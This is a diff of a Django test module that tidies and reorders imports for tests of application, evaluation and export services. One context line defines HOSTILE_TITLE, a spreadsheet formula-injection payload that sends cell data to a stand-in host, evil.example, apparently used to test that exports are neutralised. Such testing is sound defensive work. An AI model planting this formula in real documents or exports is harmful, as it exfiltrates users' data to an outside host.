@@ -12,20 +12,25 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 
-from calls.decisions import services as decisions
-from calls.evaluation import services as evaluation
 from calls.applications import services as submission
 from calls.applications.models import ApplicationStatus
+from calls.decisions import services as decisions
+from calls.evaluation import services as evaluation
 from calls.setup.models import StageKind
 from governance import services as voting
-from pepr.core.models import CommitteeCode
 from governance.models import Committee
+from pepr.core.models import Axis, CommitteeCode
 from pepr.exports.tables import EXPORTS, neutralise
-from pepr.core.models import Axis
 from projects import services as project_services
 from projects.models import FundedProject, PriorityProject
-from tests.factories import (ApplicationFactory, OrganisationFactory, PartnerFactory,
-                             UserFactory, make_call, member_of)
+from tests.factories import (
+    ApplicationFactory,
+    OrganisationFactory,
+    PartnerFactory,
+    UserFactory,
+    make_call,
+    member_of,
+)
 from tests.pdfs import pdf_upload
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'
